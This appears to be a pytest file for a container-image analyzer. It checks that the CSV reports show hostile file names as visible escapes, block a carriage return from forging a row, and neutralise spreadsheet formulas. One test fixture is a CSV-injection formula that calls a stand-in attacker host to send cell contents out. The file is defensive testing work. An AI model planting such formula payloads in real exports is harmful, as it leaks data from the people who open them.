"""The CSV files of the bundle: one row per row and one printable line per row, whatever a name
holds (its escape sequences, line breaks and bidirectional overrides shown as visible escapes)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from analyzer.bundle.tables import FINDING_COLUMNS, findings_csv, inventory_csv
from analyzer.reader import read_archive
from analyzer.text import printable
from fixtures.hostile_text import ESCAPES, FORGED_ROW, write_terminal_image


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_inventory_shows_hostile_names_as_visible_escapes_one_row_each(
    tmp_path: Path,
) -> None:
    archive = write_terminal_image(tmp_path / "term.tar")
    [view] = read_archive(archive).images
    data = inventory_csv(view)
    paths = {row["path"]: row for row in rows(data)}
    assert printable(f"/app/evil{ESCAPES}") in paths and printable(f"/{FORGED_ROW}") in paths
    assert "/app/bytes\\xff\\xfe" in paths
    assert paths["/app/link"]["link"] == printable(f"/target{ESCAPES}")
    assert data.count(b"\n") == len(rows(data)) + 1  # the header, then one line per row


def test_inventory_passes_names_and_link_targets_through_its_scrub(tmp_path: Path) -> None:
    archive = write_terminal_image(tmp_path / "term.tar")
    [view] = read_archive(archive).images
    scrubbed = rows(inventory_csv(view, lambda text: text.replace("target", "[hidden]")))
    links = {row["path"]: row["link"] for row in scrubbed}
    assert links["/app/link"] == printable(f"/[hidden]{ESCAPES}")


def test_a_finding_path_that_is_not_utf8_does_not_stop_the_csv() -> None:
    finding = {
        "rule_id": "IA-SETUID",
        "severity": "medium",
        "category": "permissions",
        "path": "/app/\udcff",
        "line": None,
        "layer_index": 1,
        "diff_id": "sha256:" + "1" * 64,
        "present_in_final": True,
        "recoverable": False,
        "pci": ["7.2.1"],
        "fingerprint": "0" * 32,
        "evidence": "mode 4755",
        "title": "setuid",
    }
    [row] = rows(findings_csv([finding]))
    assert row["path"] == "/app/\\xff"
    assert row["diff_id"] == "sha256:" + "1" * 64  # the layer's digest beside its index


def test_a_carriage_return_in_a_name_cannot_forge_a_csv_row() -> None:
    finding = {c: "" for c in FINDING_COLUMNS} | {"pci": [], "path": "/a\rIA-FAKE"}
    [row] = rows(findings_csv([finding]))
    assert row["path"] == "/a\\x0dIA-FAKE"


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_made_inert() -> None:
    """A hostile image's build step or evidence must not run in the assessor's spreadsheet
    (OWASP CSV injection): such a cell starts with a quote; other cells stay exact."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    finding = {c: "" for c in FINDING_COLUMNS} | {
        "pci": [],
        "evidence": formula,
        "title": "@SUM(1+1)",
        "path": "/app/=ok",
        "layer_index": 2,
    }
    [row] = rows(findings_csv([finding]))
    assert row["evidence"] == "'" + formula and row["title"] == "'@SUM(1+1)"
    assert row["path"] == "/app/=ok" and row["layer_index"] == "2"
